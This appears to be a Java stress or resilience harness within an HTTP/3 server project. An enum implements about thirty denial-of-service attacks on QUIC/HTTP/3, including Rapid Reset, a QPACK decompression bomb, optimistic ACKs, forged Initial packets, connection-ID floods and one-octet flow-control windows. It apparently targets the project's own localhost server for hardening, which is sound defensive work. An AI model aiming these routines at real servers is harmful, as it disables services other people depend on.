package io.margay.server.http3;

import io.margay.protocol.quic.connection.ConnectionOptions;
import io.margay.protocol.quic.frame.FrameWriter;
import io.margay.protocol.quic.stream.StreamSettings;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Random;
import java.util.concurrent.locks.LockSupport;

/// Ways to have a server of HTTP/3 work, or hold something, for nothing. Each goes on until the
/// server has ended its connection, or until it is told to stop.
enum Http3Attack {
    FORGED_FIRST_PACKETS {
        @Override
        void run(InetSocketAddress server, Pace pace) throws IOException {
            try (DatagramChannel channel = DatagramChannel.open().connect(server)) {
                byte[] datagram = new byte[1_200];
                datagram[0] = (byte) 0xc0;
                datagram[4] = 1;
                datagram[5] = 8;
                datagram[14] = 8;
                datagram[24] = 0x44;
                datagram[25] = (byte) (1_200 - 26 - 0x400 & 0xff);
                while (pace.next()) {
                    byte[] id = new byte[8];
                    CHANCE.nextBytes(id);
                    System.arraycopy(id, 0, datagram, 6, 8);
                    channel.write(ByteBuffer.wrap(datagram));
                }
            }
        }
    },

    HANDSHAKES_THAT_STOP {
        @Override
        void run(InetSocketAddress server, Pace pace) throws IOException {
            LoopbackClient client = new LoopbackClient(server);
            client.send();
            client.leave();
            boolean _ = pace.next();
        }
    },

    HANDSHAKES_THAT_END {
        @Override
        void run(InetSocketAddress server, Pace pace) throws IOException {
            LoopbackClient client = new LoopbackClient(server);
            client.send();
            client.close();
            for (int i = 0; i < 2 && pace.next(); i++) {}
        }
    },

    FORGED_TOKENS {
        @Override
        void run(InetSocketAddress server, Pace pace) throws IOException {
            byte[] token = new byte[60];
            token[0] = (byte) 0xd3;
            LoopbackClient client = new LoopbackClient(server, ConnectionOptions.defaults(), token);
            client.send();
            client.leave();
            boolean _ = pace.next();
        }
    },

    CONNECTIONS_THAT_ARE_LEFT {
        @Override
        void run(InetSocketAddress server, Pace pace) throws IOException {
            new LoopbackClient(server).connect().leave();
            for (int i = 0; i < 20 && pace.next(); i++) {}
        }
    },

    RAPID_RESET {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            long[] id = {0};
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> {
                    for (int i = 0; i < 10 && id[0] / 4 < rogue.streamsMax; i++, id[0] += 4) {
                        put(out, id[0], 0, GET, false);
                        out.resetStream(id[0], 0x10c, GET.length);
                        out.stopSending(id[0], 0x10c);
                    }
                    out.ping();
                });
            }
        }
    },

    STREAMS_THE_SERVER_RESETS {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            byte[] malformed = {1, 4, 0, 0, (byte) 0xd1, (byte) 0xd7};
            long[] id = {0};
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> {
                    for (int i = 0; i < 10 && id[0] / 4 < rogue.streamsMax; i++, id[0] += 4) {
                        put(out, id[0], 0, malformed, false);
                    }
                    acknowledge(rogue, out);
                });
            }
        }
    },

    CRYPTO_GAPS {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            int[] at = {2};
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> {
                    for (int i = 0; i < 20; i++, at[0] += 2) {
                        out.crypto(at[0], new byte[1], 0, 1);
                    }
                });
            }
        }
    },

    ACKNOWLEDGEMENTS {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> {
                    out.ping();
                    for (int i = 0; i < 200 && rogue.largest >= 0; i++) {
                        acknowledge(rogue, out);
                    }
                });
            }
        }
    },

    OPTIMISTIC_ACKNOWLEDGEMENTS {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            ask(rogue, pace, 50);
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> out.ack(false, rogue.largest + 20, 0, 0, rogue.largest + 20));
            }
        }
    },

    PINGS_WITH_HOLES {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            while (rogue.isOpen() && pace.next()) {
                rogue.number++;
                rogue.send(FrameWriter::ping);
            }
        }
    },

    PATH_CHALLENGES {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> {
                    for (int i = 0; i < 100; i++) {
                        out.pathChallenge(i);
                    }
                });
            }
        }
    },

    SPOOFED_MIGRATION {
        @Override
        void run(InetSocketAddress server, Pace pace) throws IOException {
            try (RogueHttp3 rogue = new RogueHttp3(server, ConnectionOptions.defaults())) {
                while (rogue.isOpen() && pace.next()) {
                    try (DatagramChannel other = DatagramChannel.open().connect(server)) {
                        rogue.send(other, FrameWriter::ping);
                    }
                    rogue.send(FrameWriter::ping);
                }
            }
        }
    },

    CONNECTION_IDS_ISSUED {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            long[] sequence = {1};
            while (rogue.isOpen() && pace.next()) {
                byte[] id = new byte[8];
                CHANCE.nextBytes(id);
                rogue.send(
                        out -> out.newConnectionId(sequence[0], sequence[0]++, id, new byte[16]));
            }
        }
    },

    CONNECTION_IDS_RETIRED {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            long[] sequence = {1};
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> out.retireConnectionId(sequence[0]++));
            }
        }
    },

    KEY_UPDATES {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            while (rogue.isOpen() && pace.next()) {
                rogue.send(FrameWriter::ping);
                rogue.keys.dropBefore();
                if (rogue.keys.mayUpdate()) {
                    rogue.keys.update();
                }
            }
        }
    },

    QPACK_BLOCKED {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            byte[] section = new byte[1_000];
            section[0] = 1;
            section[1] = 0x43;
            section[2] = (byte) (section.length - 3 & 0xff);
            section[3] = 2;
            for (int i = 0; rogue.isOpen() && pace.next(); i++) {
                long id = 4L * i;
                if (i < rogue.streamsMax) {
                    rogue.send(out -> put(out, id, 0, section, true));
                }
            }
        }
    },

    QPACK_TABLE {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            byte[] begin = {2, 0x3f, (byte) 0xe1, 0x1f, 0x41, 'a', 1, 'b'};
            flood(rogue, pace, 2, begin, new byte[1_200]);
        }
    },

    QPACK_CANCELLATIONS {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            byte[] octets = new byte[1_200];
            Arrays.fill(octets, (byte) 0x44);
            flood(rogue, pace, 2, new byte[] {3}, octets);
        }
    },

    QPACK_BOMB {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            ByteArrayOutputStream table = new ByteArrayOutputStream();
            table.writeBytes(
                    new byte[] {2, 0x3f, (byte) 0xe1, 0x1f, 0x41, 'a', 127, (byte) 0xe9, 7});
            table.writeBytes("v".repeat(127 + 0x69 + 7 * 128).getBytes(StandardCharsets.US_ASCII));
            byte[] section = new byte[1_200];
            Arrays.fill(section, (byte) 0x80);
            section[0] = 1;
            section[1] = 0x44;
            section[2] = (byte) (section.length - 3 & 0xff);
            section[3] = 2;
            section[4] = 0;
            byte[] filled = table.toByteArray();
            rogue.send(out -> put(out, 2, 0, filled, false));
            for (int i = 0; rogue.isOpen() && pace.next(); i++) {
                long id = 4L * i;
                if (i < rogue.streamsMax) {
                    rogue.send(out -> put(out, id, 0, section, true));
                }
            }
        }
    },

    WINDOWS_OF_ONE_OCTET {
        @Override
        ConnectionOptions options() {
            return with(new StreamSettings(1, 1 << 20, 100, 8, 131_072));
        }

        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            ask(rogue, pace, 100);
            for (int i = 2; rogue.isOpen() && pace.next(); i++) {
                long most = i;
                rogue.send(out -> {
                    for (int stream = 0; stream < 100; stream++) {
                        out.maxStreamData(4L * stream, most);
                    }
                    acknowledge(rogue, out);
                });
            }
        }
    },

    CONNECTION_WINDOW_OF_ONE_OCTET {
        @Override
        ConnectionOptions options() {
            return with(new StreamSettings(131_072, 100, 100, 8, 131_072));
        }

        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            ask(rogue, pace, 100);
            long[] most = {100};
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> {
                    for (int i = 0; i < 200; i++) {
                        out.maxData(++most[0]);
                    }
                    acknowledge(rogue, out);
                });
            }
        }
    },

    STREAM_GAPS {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            long[] at = {0};
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> {
                    for (int i = 0; i < 100; i++, at[0]++) {
                        put(out, 4 * (at[0] % 10), 2 + at[0] / 10 % 900 * 2, new byte[1], false);
                    }
                });
            }
        }
    },

    CONTENT_OF_NOTHING {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            flood(rogue, pace, 0, POST, new byte[1_200]);
        }
    },

    CONTENT_OF_ONE_OCTET {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            byte[] frames = new byte[1_200];
            for (int i = 1; i < frames.length; i += 3) {
                frames[i] = 1;
            }
            flood(rogue, pace, 0, POST, frames);
        }
    },

    HEADS_THAT_DO_NOT_COME_WHOLE {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            byte[] head = new byte[10_000];
            head[0] = 1;
            head[1] = (byte) 0x80;
            head[3] = 0x75;
            for (int i = 0; rogue.isOpen() && pace.next(); i++) {
                long id = 4L * (i / 10 % 100);
                int at = 1_000 * (i % 10);
                byte[] piece = Arrays.copyOfRange(head, at, at + 1_000);
                rogue.send(out -> put(out, id, at, piece, false));
            }
        }
    },

    ANSWERS_THAT_ARE_NOT_ACKNOWLEDGED {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            ask(rogue, pace, 50);
            for (int i = 0; i < 50 && pace.next(); i++) {}
        }
    },

    STREAMS_OF_UNKNOWN_TYPES {
        @Override
        void attack(RogueHttp3 rogue, Pace pace) throws IOException {
            long[] id = {2};
            while (rogue.isOpen() && pace.next()) {
                rogue.send(out -> put(out, id[0], 0, new byte[] {0x21}, true));
                id[0] += 4;
            }
        }
    };

    /// When the next datagram goes, and whether one does.
    static final class Pace {
        private final long periodNanos;
        private final long end;
        private long due = System.nanoTime();

        Pace(long perSecond, long nanos) {
            periodNanos = 1_000_000_000 / perSecond;
            end = due + nanos;
        }

        boolean goesOn() {
            return System.nanoTime() < end;
        }

        boolean next() {
            due += periodNanos;
            long left = due - System.nanoTime();
            if (left > 1_000_000) {
                LockSupport.parkNanos(left);
            }
            return goesOn();
        }
    }

    private static final Random CHANCE = new Random();
    private static final byte[] GET = head(0xd1, "/much");
    private static final byte[] POST = head(0xd4, "/");

    /// A HEADERS frame.
    private static byte[] head(int method, String path) {
        byte[] name = "localhost".getBytes(StandardCharsets.US_ASCII);
        byte[] target = path.getBytes(StandardCharsets.US_ASCII);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {1, (byte) (4 + 2 + name.length + 2 + target.length)});
        out.writeBytes(new byte[] {0, 0, (byte) method, (byte) 0xd7, 0x50, (byte) name.length});
        out.writeBytes(name);
        out.writeBytes(new byte[] {0x51, (byte) target.length});
        out.writeBytes(target);
        return out.toByteArray();
    }

    private static ConnectionOptions with(StreamSettings streams) {
        ConnectionOptions usual = ConnectionOptions.defaults();
        return new ConnectionOptions(
                usual.version(),
                streams,
                usual.algorithm(),
                usual.idleMillis(),
                usual.datagramMax(),
                usual.migration());
    }

    private static void put(FrameWriter out, long id, long offset, byte[] octets, boolean ends) {
        int at = out.stream(id, offset, octets.length, ends);
        System.arraycopy(octets, 0, out.bytes(), at, octets.length);
    }

    /// Acknowledges the largest packet that has come.
    private static void acknowledge(RogueHttp3 rogue, FrameWriter out) {
        if (rogue.largest >= 0) {
            out.ack(false, rogue.largest, 0, 0, 0);
        }
    }

    /// Asks for much on so many streams.
    private static void ask(RogueHttp3 rogue, Pace pace, int streams) throws IOException {
        for (int i = 0; i < streams && rogue.isOpen() && pace.next(); i++) {
            long id = 4L * i;
            rogue.send(out -> put(out, id, 0, GET, true));
        }
    }

    /// Begins a stream, and goes on with the same octets again and again.
    private static void flood(RogueHttp3 rogue, Pace pace, long id, byte[] begin, byte[] octets)
            throws IOException {
        rogue.send(out -> put(out, id, 0, begin, false));
        long at = begin.length;
        while (rogue.isOpen() && pace.next()) {
            long offset = at;
            rogue.send(out -> put(out, id, offset, octets, false));
            at += octets.length;
        }
    }

    /// The client's part of the handshake.
    ConnectionOptions options() {
        return ConnectionOptions.defaults();
    }

    /// Attacks on a connection of its own.
    void attack(RogueHttp3 rogue, Pace pace) throws IOException {
        throw new IllegalStateException(name());
    }

    /// Attacks once.
    void run(InetSocketAddress server, Pace pace) throws IOException {
        try (RogueHttp3 rogue = new RogueHttp3(server, options())) {
            attack(rogue, pace);
        }
    }
}
